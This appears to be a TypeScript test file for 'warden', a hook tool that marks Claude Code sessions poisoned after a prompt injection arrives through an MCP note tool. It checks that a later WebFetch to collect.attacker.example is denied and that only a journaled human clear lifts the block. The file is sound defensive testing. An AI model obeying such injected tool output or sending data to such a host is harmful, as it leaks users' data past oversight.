// `warden hooks status` and `warden hooks clear`: a human outside the agent sees a session's
// taint, why it is poisoned and its denials, and clears it — journaled, and only with --yes
// (or at a terminal). The poisoning itself comes from the built `warden hooks claude-code`
// on a real Claude Code payload, as the host runs it.
import { readFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { runCli } from "../helpers/cli.js";
import { decisionOf, INJECTION, post, pre, SID, spawnHook, workspace } from "./claude-payloads.js";
import { tempDir } from "./helpers.js";

const hook = spawnHook;

const exfil = (ws: string) => pre(ws, "WebFetch", { url: "https://collect.attacker.example/u", prompt: "p" });

function poisoned(): { dir: string; ws: string } {
  const dir = tempDir();
  const ws = workspace();
  const mcp = post(ws, "mcp__notes__get_note", { id: "x" }, [{ type: "text", text: INJECTION }]);
  expect(decisionOf(hook(dir, mcp))).toBe("block");
  expect(decisionOf(hook(dir, exfil(ws)))).toBe("deny");
  return { dir, ws };
}

describe("warden hooks status / clear", () => {
  it("status shows the poisoned session, its taint sources, reasons and denials", async () => {
    const { dir } = poisoned();
    const json = await runCli("hooks", "status", "--dir", dir, "--json");
    expect(json.code, json.err).toBe(0);
    const report = JSON.parse(json.out) as { poisoned: number; sessions: Record<string, unknown>[] };
    expect(report.poisoned).toBe(1);
    expect(report.sessions[0]).toMatchObject({ session: SID, poisoned: true });
    expect(JSON.stringify(report.sessions[0])).toContain("mcp__notes__get_note");
    const text = await runCli("hooks", "status", "--dir", dir, "--session", SID);
    expect(text.out).toContain("POISONED");
    expect(text.out).toContain("poisoned: prompt injection from mcp__notes__get_note (mcp)");
    expect(text.out).toContain("taint: mcp from mcp__notes__get_note");
    expect(text.out).toMatch(/denied .* PreToolUse web_request: https:\/\/collect\.attacker\.example/);
    expect((await runCli("hooks", "status", "--dir", dir, "--session", "nope")).code).not.toBe(0);
  });

  it("clear is journaled and needs --yes", async () => {
    const { dir, ws } = poisoned();
    const refused = await runCli("hooks", "clear", "--dir", dir, "--session", SID);
    expect(refused.code).toBe(2);
    expect(refused.err).toContain("--yes");
    expect(decisionOf(hook(dir, exfil(ws)))).toBe("deny"); // nothing was cleared
    const ok = await runCli(
      "hooks",
      "clear",
      "--dir",
      dir,
      "--session",
      SID,
      "--yes",
      "--note",
      "false positive",
    );
    expect(ok.code, ok.err).toBe(0);
    expect(ok.out).toContain("journaled as warden.hooks.clear");
    // The clear is in the signed journal, with who and why, and the journal verifies.
    const db = join(dir, "journal.db");
    const exported = await runCli("journal", "export", "--db", db, "--format", "jsonl");
    const entry = exported.out
      .split("\n")
      .filter(Boolean)
      .map((l) => JSON.parse(l) as { type?: string; body?: Record<string, unknown> })
      .find((e) => e.type === "warden.hooks.clear");
    expect(entry?.body).toMatchObject({ session_id: SID, by: { note: "false positive" } });
    expect(JSON.stringify(entry?.body?.poisoned)).toContain("prompt injection");
    const verify = await runCli("journal", "verify", "--db", db, "--keys", `${db}.key.pub.pem`);
    expect(verify.code, verify.err).toBe(0);
    // The next hook process lets the session fetch again.
    expect(decisionOf(hook(dir, exfil(ws)))).toBe("allow");
    const state = JSON.parse(readFileSync(join(dir, "state.json"), "utf8")) as {
      sessions: Record<string, { poisoned: string[]; taint: unknown[]; denials: unknown[] }>;
    };
    expect(state.sessions[SID]).toMatchObject({ poisoned: [], taint: [] });
    expect(state.sessions[SID]?.denials.length).toBeGreaterThan(0); // history is kept
  });

  it("clear of a session the state does not hold (a masked state directory) fails and changes nothing", async () => {
    const dir = tempDir();
    const r = await runCli("hooks", "clear", "--dir", dir, "--session", SID, "--yes");
    expect(r.code).not.toBe(0);
    expect(r.err).toContain("no session");
  });
});
